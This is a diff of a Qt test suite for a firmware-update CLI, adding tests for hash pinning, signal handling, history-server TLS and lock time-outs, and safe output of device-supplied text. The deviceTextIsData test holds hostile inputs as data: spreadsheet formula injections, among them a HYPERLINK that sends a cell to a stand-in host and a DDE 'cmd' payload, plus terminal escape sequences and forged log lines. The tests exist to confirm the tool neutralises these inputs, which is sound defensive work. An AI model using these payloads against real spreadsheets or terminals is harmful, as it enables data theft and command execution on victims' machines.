@@ -5,6 +5,9 @@
 #include "testimage.h"
 #include "filenamecodec.h"
 #include "clirun.h"
+#include "csvreader.h"
+#include "postgresurl.h"
+#include "safetext.h"
 #include "delayrelay.h"
 #include "emulateddfudevice.h"
 #include "scriptedpeer.h"
@@ -22,6 +25,9 @@
 #include <QLocalServer>
 #include <QProcess>
 #include <QSettings>
+#include <QSqlDatabase>
+#include <QSqlError>
+#include <QSqlQuery>
 #include <QTemporaryDir>
 #include <QTimer>
 #include <QtTest>
@@ -103,6 +109,9 @@ private slots:
     void historyKeepsEveryUpdate();
     void parentDies_data();
     void parentDies();
+    void outputClosedEarly();
+    void deviceTextIsData_data();
+    void deviceTextIsData();
 
 private:
     // Runs vornic-cli; `whileRunning` is called once it has started.
@@ -169,6 +178,13 @@ void VornicCliTest::updateEveryRoad_data()
     QTest::newRow("serial port, boot then DFU") << "serial" << "/dev/ttyACM0" << QStringList();
     QTest::newRow("network, checked, rebooted") << "network" << "" << QStringList { "--reboot" };
     QTest::newRow("network, checked, image closed") << "network" << "" << QStringList();
+    // A pin in capitals is the same hash.
+    QTest::newRow("USB, pinned by its SHA-256 in capitals")
+        << "usb" << "1-3"
+        << QStringList { "--sha256", QString::fromLatin1(QCryptographicHash::hash(imageBytes(40 * 1024 + 17),
+                                                                                  QCryptographicHash::Sha256)
+                                                             .toHex()
+                                                             .toUpper()) };
 }
 
 void VornicCliTest::updateEveryRoad()
@@ -294,6 +310,13 @@ void VornicCliTest::exitCodes_data()
     for (const char *road : { "usb", "network", "several" })
         QTest::addRow("--sha256 of another image, %s", road) << QStringLiteral("sha256 ") + road << 10
                                                              << "is not the one named: its SHA-256 is";
+    // A pin that names no image (an unset variable in a script) pins
+    // nothing: refused before anything is sent.
+    for (const char *pin : { "", "63", "65", "not hex" })
+        QTest::addRow("--sha256 \"%s\"", pin) << QStringLiteral("pin ") + pin << 2 << "--sha256 takes the image's SHA-256";
+    // Every command refuses what it does not take.
+    QTest::newRow("list --sha256") << "list pinned" << 2 << "--sha256 goes with update only";
+    QTest::newRow("history --verify") << "history verify" << 2 << "--verify goes with update only";
 }
 
 void VornicCliTest::exitCodes()
@@ -339,6 +362,18 @@ void VornicCliTest::exitCodes()
         arguments[1] = scenario.mid(8);
     else if (scenario == QLatin1String("history option"))
         arguments << QStringLiteral("--limit") << QStringLiteral("5");
+    else if (scenario.startsWith(QLatin1String("pin "))) {
+        const QString hash = QString(64, QLatin1Char('a'));
+        const QString pin = scenario.mid(4);
+        arguments << QStringLiteral("--sha256")
+                  << (pin == QLatin1String("63")   ? hash.left(63)
+                      : pin == QLatin1String("65") ? hash + QLatin1Char('a')
+                      : pin.isEmpty()              ? QString()
+                                                   : QString(hash).replace(10, 1, QLatin1Char('g')));
+    } else if (scenario == QLatin1String("list pinned"))
+        arguments = QStringList { "list", "--sha256", QString(64, QLatin1Char('a')) };
+    else if (scenario == QLatin1String("history verify"))
+        arguments = QStringList { "history", "--verify" };
     else if (scenario == QLatin1String("ip beside device"))
         arguments << QStringLiteral("--ip") << address;
     else if (scenario == QLatin1String("list with one silent"))
@@ -450,10 +485,15 @@ void VornicCliTest::interruptedDownloadAborts_data()
     QTest::addColumn<int>("devices");
     QTest::addColumn<int>("signal");
     QTest::addColumn<int>("code");
-    QTest::newRow("one device, Ctrl+C") << 1 << int(SIGINT) << 130;
+    QTest::addColumn<int>("copies");
+    QTest::newRow("one device, Ctrl+C") << 1 << int(SIGINT) << 130 << 1;
     // Passed on once to each device's process, which stops cleanly.
-    QTest::newRow("two at once, Ctrl+C") << 2 << int(SIGINT) << 130;
-    QTest::newRow("two at once, SIGTERM") << 2 << int(SIGTERM) << 143;
+    QTest::newRow("two at once, Ctrl+C") << 2 << int(SIGINT) << 130 << 1;
+    QTest::newRow("two at once, SIGTERM") << 2 << int(SIGTERM) << 143 << 1;
+    // As timeout(1) sends it, to the process and then to its group: the
+    // second copy does not cut the clean stop short.
+    QTest::newRow("one device, SIGTERM twice") << 1 << int(SIGTERM) << 143 << 2;
+    QTest::newRow("two at once, SIGTERM twice") << 2 << int(SIGTERM) << 143 << 2;
 }
 
 void VornicCliTest::interruptedDownloadAborts()
@@ -461,6 +501,7 @@ void VornicCliTest::interruptedDownloadAborts()
     QFETCH(int, devices);
     QFETCH(int, signal);
     QFETCH(int, code);
+    QFETCH(int, copies);
     UsbTestbed testbed;
     QVERIFY(testbed.isValid());
     const QString image = writeImage(QStringLiteral("DG_SLOW.IN2"), imageBytes(64 * 1024));
@@ -478,10 +519,16 @@ void VornicCliTest::interruptedDownloadAborts()
     }
     arguments << image;
 
-    const Outcome outcome = run(arguments, [&usb, signal](QProcess &process) {
+    const Outcome outcome = run(arguments, [&usb, signal, copies](QProcess &process) {
         for (const auto &device : usb)
             QTRY_VERIFY_WITH_TIMEOUT(device->requestCount(1, 1) >= 5, 20000);
-        ::kill(pid_t(process.processId()), signal);
+        // (The second once the first has been taken: two at once would be
+        // one for the kernel.)
+        for (int i = 0; i < copies; ++i) {
+            if (i > 0)
+                QTest::qWait(30);
+            CliRun::signal(process, signal);
+        }
     });
     QVERIFY2(outcome.code == code, (outcome.out + outcome.err).constData());
     QVERIFY2(outcome.err.count("Stopped after") == devices, outcome.err.constData());
@@ -811,31 +858,61 @@ void VornicCliTest::severalDevicesAtOnce()
 }
 
 // The parent of a several-devices update killed, or its terminal gone: no
-// device's process writes on unattended, and none is rebooted.
+// device's process writes on unattended, and none is rebooted; each stops
+// as on SIGTERM (a USB device told to abort), although what it says goes
+// into the dead parent's pipe, and its row says it stopped.
 void VornicCliTest::parentDies_data()
 {
     QTest::addColumn<int>("signal");
     QTest::addColumn<int>("code");                  // the parent's; -2 killed
-    QTest::newRow("SIGKILL") << int(SIGKILL) << -2;
-    QTest::newRow("SIGHUP (terminal closed)") << int(SIGHUP) << 129;
+    QTest::addColumn<bool>("usb");
+    QTest::newRow("SIGKILL") << int(SIGKILL) << -2 << false;
+    QTest::newRow("SIGHUP (terminal closed)") << int(SIGHUP) << 129 << false;
+    QTest::newRow("SIGKILL, USB") << int(SIGKILL) << -2 << true;
 }
 
 void VornicCliTest::parentDies()
 {
     QFETCH(int, signal);
     QFETCH(int, code);
-    const QString path = writeImage(QStringLiteral("DG_ORPHAN.IN2"), imageBytes(8 * 1024));
+    QFETCH(bool, usb);
+    QTemporaryDir data;
+    QVERIFY(data.isValid());
+    const QByteArray previous = qgetenv("XDG_DATA_HOME");
+    const auto restore = qScopeGuard([&] { qputenv("XDG_DATA_HOME", previous); });
+    qputenv("XDG_DATA_HOME", QFile::encodeName(data.path()));
+    const QByteArray image = imageBytes(usb ? 64 * 1024 : 8 * 1024);
+    const QString path = writeImage(QStringLiteral("DG_ORPHAN.IN2"), image);
     NetworkDeviceSimulator::Options options = networkDongara();
     options.recordDelay = 20;
     SimulatedDevice first(options);
     options.serialNumber = "04E2E5F7";
     SimulatedDevice second(options);
     QVERIFY(first.isListening() && second.isListening());
-    const QStringList arguments { "update", QStringLiteral("127.0.0.1:%1").arg(first.port()),
-                                  QStringLiteral("127.0.0.1:%1").arg(second.port()), path, "--reboot" };
+    UsbTestbed testbed;
+    std::vector<std::unique_ptr<EmulatedDfuDevice>> bootloaders;
+    QStringList arguments { "update", QStringLiteral("127.0.0.1:%1").arg(first.port()),
+                            QStringLiteral("127.0.0.1:%1").arg(second.port()), path, "--reboot" };
+    if (usb) {
+        QVERIFY(testbed.isValid());
+        arguments = QStringList { "update", "1-3", "1-5", path };
+        for (const char *port : { "1-3", "1-5" }) {
+            EmulatedDfuDevice::Config config = usbDongara(true);
+            config.busyPolls = 4;
+            config.port = port;
+            config.deviceNumber = bootloaders.empty() ? 2 : 7;
+            config.serial = bootloaders.empty() ? "04E2B9C1" : "04E2A1B9";
+            bootloaders.emplace_back(new EmulatedDfuDevice(config));
+            QVERIFY(!bootloaders.back()->plug(testbed).isEmpty());
+        }
+    }
     const CliRun result = CliRun::run(QStringLiteral(VORNIC_CLI), arguments, [&](QProcess &process) {
-        for (const SimulatedDevice *device : { &first, &second })
-            QTRY_VERIFY_WITH_TIMEOUT(device->journal().filter(QStringLiteral(" record ")).size() >= 5, 20000);
+        for (const auto &device : bootloaders)
+            QTRY_VERIFY_WITH_TIMEOUT(device->requestCount(1, 1) >= 5, 20000);
+        for (const SimulatedDevice *device : { &first, &second }) {
+            if (!usb)
+                QTRY_VERIFY_WITH_TIMEOUT(device->journal().filter(QStringLiteral(" record ")).size() >= 5, 20000);
+        }
         ::kill(pid_t(process.processId()), signal);
     });
     QCOMPARE(result.code, code);
@@ -858,6 +935,114 @@ void VornicCliTest::parentDies()
                  qPrintable(journal.join('\n')));
         QVERIFY(device->checkedImage().isEmpty());
     }
+    // Each bootloader holds the whole image, or was told to abort: never
+    // left with part of one.
+    for (const auto &device : bootloaders) {
+        const QVector<EmulatedDfuDevice::Request> requests = device->requests();
+        QVERIFY2(device->downloaded() == image || (!requests.isEmpty() && requests.last().request == 6),
+                 qPrintable(QStringLiteral("%1 bytes, last request %2")
+                                .arg(device->downloaded().size())
+                                .arg(requests.isEmpty() ? -1 : int(requests.last().request))));
+        device->unplug(testbed);
+    }
+    // And every device's row says how it ended.
+    const QJsonArray rows = QJsonDocument::fromJson(run({ "history", "--json" }).out).array();
+    QCOMPARE(rows.size(), 2);
+    for (const QJsonValue &row : rows)
+        QVERIFY2(row.toObject().value(QLatin1String("outcome")).toString() == QLatin1String("stopped"),
+                 QJsonDocument(row.toObject()).toJson().constData());
+}
+
+// A reader that leaves early (| head -1) never cuts the transfer short: the
+// device gets the whole image, and the exit code and the row say so.
+void VornicCliTest::outputClosedEarly()
+{
+    QTemporaryDir data;
+    QVERIFY(data.isValid());
+    const QByteArray previous = qgetenv("XDG_DATA_HOME");
+    const auto restore = qScopeGuard([&] { qputenv("XDG_DATA_HOME", previous); });
+    qputenv("XDG_DATA_HOME", QFile::encodeName(data.path()));
+    UsbTestbed testbed;
+    QVERIFY(testbed.isValid());
+    EmulatedDfuDevice::Config config = usbDongara(true);
+    config.busyPolls = 2;
+    EmulatedDfuDevice device(config);
+    QVERIFY(!device.plug(testbed).isEmpty());
+    const QByteArray image = imageBytes(59 * 1024);
+    const QString path = writeImage(QStringLiteral("DG_PIPE.IN2"), image);
+    const CliRun result = CliRun::run(QStringLiteral("bash"),
+                                      CliRun::intoClosedPipe(QStringLiteral(VORNIC_CLI), { "update", "1-3", path }));
+    QVERIFY2(result.code == 0, result.err.constData());
+    QCOMPARE(result.out.count('\n'), 1);
+    QCOMPARE(device.downloaded(), image);
+    const QJsonArray rows = QJsonDocument::fromJson(run({ "history", "--json" }).out).array();
+    QCOMPARE(rows.size(), 1);
+    QCOMPARE(rows.first().toObject().value(QLatin1String("outcome")).toString(), QStringLiteral("updated"));
+    device.unplug(testbed);
+}
+
+// What a device says of itself (its USB serial number, its answer on the
+// network) is data in every output: one line on a terminal, with no
+// control character; text in a spreadsheet; the exact value in JSON.
+void VornicCliTest::deviceTextIsData_data()
+{
+    QTest::addColumn<bool>("usb");
+    QTest::addColumn<QByteArray>("name");
+    const QByteArray names[] = { "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
+                                 "@SUM(1+1)", "\t=1", "\r=1", "04E2\nUpdated 1-3 with evil", "04E2\x1b]0;t\x07\x1b[31m",
+                                 "a \"quoted\", name" };
+    for (const QByteArray &name : names)
+        QTest::addRow("USB %s", SafeText::forTerminal(QString::fromLatin1(name)).toLatin1().constData()) << true << name;
+    // (A network answer is a line: it cannot hold CR or LF.)
+    for (const QByteArray &name : { QByteArray("=1+1\x1b[2J\x07"), QByteArray("@\"x\""), QByteArray(120, '=') })
+        QTest::addRow("network %s", SafeText::forTerminal(QString::fromLatin1(name)).toLatin1().left(20).constData()) << false << name;
+}
+
+void VornicCliTest::deviceTextIsData()
+{
+    QFETCH(bool, usb);
+    QFETCH(QByteArray, name);
+    QTemporaryDir data;
+    QVERIFY(data.isValid());
+    const QByteArray previous = qgetenv("XDG_DATA_HOME");
+    const auto restore = qScopeGuard([&] { qputenv("XDG_DATA_HOME", previous); });
+    qputenv("XDG_DATA_HOME", QFile::encodeName(data.path()));
+    const QString path = writeImage(QStringLiteral("DG_TEXT.IN2"), imageBytes(4 * 1024));
+    UsbTestbed testbed;
+    QVERIFY(testbed.isValid());
+    EmulatedDfuDevice::Config config = usbDongara(true);
+    config.serial = name;
+    EmulatedDfuDevice device(config);
+    QVERIFY(!device.plug(testbed).isEmpty());
+    NetworkDeviceSimulator::Options options = networkDongara();
+    options.serialNumber = name;
+    SimulatedDevice network(options);
+    QVERIFY(network.isListening());
+    const QString place = usb ? QStringLiteral("1-3") : QStringLiteral("127.0.0.1:%1").arg(network.port());
+
+    // (--force: a name that says nothing of a model is no reason to stop.)
+    const Outcome update = run({ "update", place, path, "--force" });
+    QVERIFY2(update.code == 0, update.err.constData());
+    const QList<QByteArray> lines = (update.out + update.err).split('\n');
+    for (const QByteArray &line : lines) {
+        QVERIFY2(std::none_of(line.cbegin(), line.cend(), [](char c) { return (uchar(c) < 0x20 && c != '\t') || c == 0x7F; }),
+                 line.constData());
+    }
+    QCOMPARE(update.out.count("\nUpdated ") + int(update.out.startsWith("Updated ")), 1);
+
+    const Outcome table = run({ "history" });
+    QCOMPARE(table.out.count('\n'), 1);
+    QVERIFY(!table.out.contains('\x1b') && !table.out.contains('\r'));
+    const Outcome json = run({ "history", "--json" });
+    const QJsonObject row = QJsonDocument::fromJson(json.out).array().first().toObject();
+    QCOMPARE(row.value(QLatin1String("serialNumber")).toString().toUtf8(), name);
+    const QList<QStringList> records = CsvReader::parse(QString::fromUtf8(run({ "history", "--csv" }).out));
+    QCOMPARE(records.size(), 2);
+    for (const QString &field : records.at(1))
+        QVERIFY2(field.isEmpty() || !QStringLiteral("=+-@\t\r").contains(field.at(0)), qPrintable(field));
+    QCOMPARE(CsvReader::shownValue(records.at(1).at(records.at(0).indexOf(QStringLiteral("serialNumber")))).toUtf8(),
+             name);
+    device.unplug(testbed);
 }
 
 // Every update leaves one row behind, whatever becomes of it or of the
@@ -879,6 +1064,13 @@ void VornicCliTest::historyKeepsEveryUpdate_data()
     QTest::newRow("server: killed during the upload") << "server killed" << QStringList { "interrupted" };
     QTest::newRow("server stopped during the update") << "server stopped" << QStringList();
     QTest::newRow("server down from the start") << "server down" << QStringList();
+    // The password as a parameter: used, and never shown either.
+    QTest::newRow("server: password as a parameter") << "server password" << QStringList { "updated" };
+    // TLS asked for, and a server without it: nothing is written in clear.
+    QTest::newRow("server without the TLS asked for") << "server tls" << QStringList();
+    // Another station holds a lock past the statement time-out: said as a
+    // time-out, within it.
+    QTest::newRow("server: table locked") << "server locked" << QStringList();
 }
 
 void VornicCliTest::historyKeepsEveryUpdate()
@@ -896,6 +1088,8 @@ void VornicCliTest::historyKeepsEveryUpdate()
     const bool onServer = scenario.startsWith(QLatin1String("server"));
     const bool stopped = scenario == QLatin1String("server stopped");
     const bool down = scenario == QLatin1String("server down");
+    const bool tls = scenario == QLatin1String("server tls");
+    const bool locked = scenario == QLatin1String("server locked");
     const bool killed = scenario.endsWith(QLatin1String("killed"));
     const bool slow = killed || stopped;
     std::unique_ptr<PostgresServer> server;
@@ -911,8 +1105,11 @@ void VornicCliTest::historyKeepsEveryUpdate()
         QSettings settings(data.filePath(QStringLiteral("Ordane/Vornic.ini")), QSettings::IniFormat);
         // (The throw-away server trusts its socket: the password only has to
         // stay out of sight.)
-        settings.setValue(QStringLiteral("history/url"),
-                          QString(server->url()).replace(QLatin1String("postgres@"), QLatin1String("postgres:s3cret@")));
+        const QString url = tls ? server->tcpUrl() + QStringLiteral("?sslmode=require&password=s3cret")
+            : scenario == QLatin1String("server password")
+            ? server->url() + QStringLiteral("&password=s3cret")
+            : QString(server->url()).replace(QLatin1String("postgres@"), QLatin1String("postgres:s3cret@"));
+        settings.setValue(QStringLiteral("history/url"), url);
         settings.sync();
         qputenv("XDG_CONFIG_HOME", data.path().toLocal8Bit());
         if (down)
@@ -948,6 +1145,24 @@ void VornicCliTest::historyKeepsEveryUpdate()
     const bool verify = scenario.endsWith(QLatin1String("verified"));
     if (verify)
         arguments << QStringLiteral("--verify");
+    // The tables made, then locked by another connection until the end.
+    QSqlDatabase holder;
+    const auto unlock = qScopeGuard([&holder] {
+        if (holder.isOpen())
+            QSqlQuery(holder).exec(QStringLiteral("ROLLBACK"));
+    });
+    if (locked) {
+        QCOMPARE(run({ "history" }).code, 0);
+        const PostgresUrl url = PostgresUrl::parse(server->url());
+        holder = QSqlDatabase::addDatabase(QStringLiteral("QPSQL"), QStringLiteral("holder"));
+        holder.setHostName(url.host());
+        holder.setPort(url.port());
+        holder.setDatabaseName(url.database());
+        holder.setUserName(url.user());
+        QVERIFY2(holder.open(), qPrintable(holder.lastError().text()));
+        QSqlQuery lock(holder);
+        QVERIFY(lock.exec(QStringLiteral("BEGIN")) && lock.exec(QStringLiteral("LOCK TABLE updates IN ACCESS EXCLUSIVE MODE")));
+    }
     QElapsedTimer clock;
     clock.start();
     const Outcome outcome = run(arguments, [&](QProcess &process) {
@@ -964,8 +1179,8 @@ void VornicCliTest::historyKeepsEveryUpdate()
     } else {
         QVERIFY2(outcome.code == 0, outcome.err.constData());
         // Said once when the history could not be kept, or was set aside.
-        const bool warned =
-            scenario == QLatin1String("corrupt") || scenario == QLatin1String("unwritable") || stopped || down;
+        const bool warned = scenario == QLatin1String("corrupt") || scenario == QLatin1String("unwritable") || stopped
+            || down || tls || locked;
         // And nothing else: no notice a server sends reaches the terminal.
         QCOMPARE(outcome.err.count("update history"), warned ? 1 : 0);
         QVERIFY2(outcome.err.count('\n') == (warned ? 1 : 0), outcome.err.constData());
@@ -973,12 +1188,22 @@ void VornicCliTest::historyKeepsEveryUpdate()
         // said of it never shows its password.
         QVERIFY(clock.elapsed() < 15000);
         QVERIFY(!outcome.err.contains("s3cret"));
-        QCOMPARE(outcome.err.contains("postgres:****@"), stopped || down);
+        QCOMPARE(outcome.err.contains("postgres:****@"), stopped || down || tls || locked);
+        if (tls)
+            QVERIFY2(outcome.err.contains("SSL was required"), outcome.err.constData());
+        if (locked)
+            QVERIFY2(outcome.err.contains("the history server did not answer within 5 s"), outcome.err.constData());
+    }
+    if (locked) {
+        QSqlQuery(holder).exec(QStringLiteral("ROLLBACK"));
+        holder.close();
+        holder = QSqlDatabase();
+        QSqlDatabase::removeDatabase(QStringLiteral("holder"));
     }
 
     clock.restart();
     const Outcome history = run({ "history", "--json" });
-    if (scenario == QLatin1String("unwritable") || stopped || down) {
+    if (scenario == QLatin1String("unwritable") || stopped || down || tls) {
         QCOMPARE(history.code, 1);
         QVERIFY(history.err.contains("update history"));
         QVERIFY(clock.elapsed() < 10000);
